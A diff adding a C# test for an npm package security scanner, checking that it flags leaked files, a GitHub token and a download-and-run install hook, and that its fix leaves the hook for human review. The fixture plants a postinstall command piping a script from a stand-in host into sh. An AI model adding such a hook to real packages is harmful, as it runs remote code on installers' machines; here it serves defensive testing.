@@ -102,6 +102,40 @@ public sealed class FixCommandTests : IDisposable
     }
 
     [Fact]
+    public async Task The_leaky_npm_package_yields_each_rule_and_after_the_fix_only_its_install_script_is_left_for_a_person()
+    {
+        WritePackage();
+        var manifest = Path.Combine(_cli.Work, "pkg/package.json");
+        File.WriteAllText(manifest, File.ReadAllText(manifest).Replace("\"build\":", "\"postinstall\": \"curl -s https://x.example/i.sh | sh\",\n    \"build\":", StringComparison.Ordinal));
+        // The package as a hand-made tarball holds all of it; npm pack would leave .npmrc out by itself.
+        var files = new[] { "package.json", "index.js", "dist/cli.js", "dist/cli.js.map", ".env", ".npmrc", "test/cli.test.js" }
+            .Select(f => new TestFile(f, File.ReadAllBytes(Path.Combine(_cli.Work, "pkg", f)))).ToArray();
+        var tarball = _cli.WriteFile("acme-cli-1.0.0.tgz", TestArchive.NpmTarball(files));
+
+        var scan = await _cli.RunAsync("scan", tarball, "--format", "json");
+
+        scan.ExitCode.ShouldBe(ExitCodes.Fail, scan.ToString());
+        var found = JsonDocument.Parse(scan.Output).RootElement.GetProperty("findings").EnumerateArray()
+            .Select(f => $"{f.GetProperty("ruleId").GetString()} {f.GetProperty("severity").GetString()}").ToHashSet();
+        found.ShouldContain("source-map/embedded-sources critical");
+        found.ShouldContain("file/env-file high");
+        found.ShouldContain("file/registry-config high");
+        found.ShouldContain("secret/github-pat-classic critical");
+        found.ShouldContain("install/npm-script info");
+        found.ShouldContain("install/downloads-and-runs high");
+
+        var fix = await _cli.RunAsync("fix", "pkg", "--write");
+
+        fix.ExitCode.ShouldBe(ExitCodes.Fail, fix.ToString());
+        fix.Output.ShouldContain("install/downloads-and-runs at package.json (needs a person)");
+        var after = await RepackAndScan();
+        after.ShouldNotContain("source-map/embedded-sources");
+        after.ShouldNotContain("secret/");
+        after.ShouldNotContain("file/");
+        after.ShouldContain("install/downloads-and-runs");
+    }
+
+    [Fact]
     public async Task Json_carries_the_diff_and_every_finding()
     {
         WritePackage();
